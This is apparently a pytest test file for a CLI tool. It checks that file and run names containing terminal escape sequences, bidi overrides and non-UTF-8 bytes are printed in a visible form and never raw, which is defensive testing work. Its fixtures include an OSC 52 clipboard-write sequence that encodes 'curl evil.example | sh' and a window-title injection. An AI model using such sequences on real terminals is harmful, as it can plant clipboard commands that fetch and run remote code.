"""Names that try to act, on every CLI output path.

A run id, a forecast run directory, an eval run directory or a sample id can hold ``ESC ] 0;``
(sets the window title), ``ESC ] 52;`` (writes the clipboard), C1 controls, bidi overrides,
newlines and bytes that are not UTF-8. ``ls`` and ``show`` print them made visible, never raw.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.formats.eval_results import builders as be
from tests.formats.forecast import builders as bf
from tests.helpers import forked

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
TITLE = "\x1b]0;PWNED\x07"
RUN_ID = f"run{TITLE}{OSC52}\x9b31m\u202eX\nnl"
EVAL_DIR = os.fsdecode(b"20260118_000000_G1\xff\xfe" + f"{TITLE}\x9d\u202ex".encode())
SAMPLE = f"biz{OSC52}\u202e1"

FOREIGN = re.compile(rb"\x1b(?!\[)|\x07|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("names")
    ev = root / "fc"
    bf.write_json(ev / "summary.json", bf.summary([bf.entry(RUN_ID, brier=0.05)]))
    bf.run_dir(ev / "runs" / RUN_ID, bf.fed_run())
    results = root / "ev" / "results" / "dev" / EVAL_DIR / "results.json"
    doc = be.results_doc(
        [be.sample(SAMPLE, f"name{TITLE}", gt="Low Risk")], total=1, correct=1, accuracy=1.0
    )
    be.write_json(results, doc)
    return root


def trajtui(
    *args: str | bytes, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[bytes]:
    return forked.run(
        [sys.executable, "-m", "trajtui", *args],
        capture_output=True,
        env={**os.environ, **(env or {})},
        timeout=60,
    )


@pytest.mark.parametrize("color", ["FORCE_COLOR", "NO_COLOR"])
@pytest.mark.parametrize(
    ("where", "ref"),
    [
        ("fc", RUN_ID),
        ("fc", f"{RUN_ID}/step-2"),
        ("fc", f"{RUN_ID}/msg:A0"),
        ("fc", f"{RUN_ID}/src:S1"),
        ("ev", EVAL_DIR),
        ("ev", f"{EVAL_DIR}/{SAMPLE}"),
    ],
    ids=["run", "step", "message", "source", "eval-run", "sample"],
)
def test_show_prints_hostile_names_made_visible(
    hostile: Path, where: str, ref: str, color: str
) -> None:
    out = trajtui(
        "show", str(hostile / where), os.fsencode(ref), env={color: "1", "COLUMNS": "120"}
    )
    assert out.returncode == 0, out.stderr
    assert not FOREIGN.findall(out.stdout), FOREIGN.findall(out.stdout)[:5]
    text = out.stdout.decode("utf-8")  # strict: no raw bytes from the file system
    assert "␛]" in text  # shown, as symbols
    assert "X⏎nl" in text or "⟨U+DCFF⟩" in text  # the newline and the bad byte made visible


def test_ls_prints_hostile_names_made_visible(hostile: Path) -> None:
    out = trajtui("ls", str(hostile / "fc"), str(hostile / "ev"), env={"FORCE_COLOR": "1"})
    assert out.returncode == 0, out.stderr
    assert not FOREIGN.findall(out.stdout)
    text = out.stdout.decode("utf-8")
    assert "⟨U+DCFF⟩" in text and "X⏎nl" in text
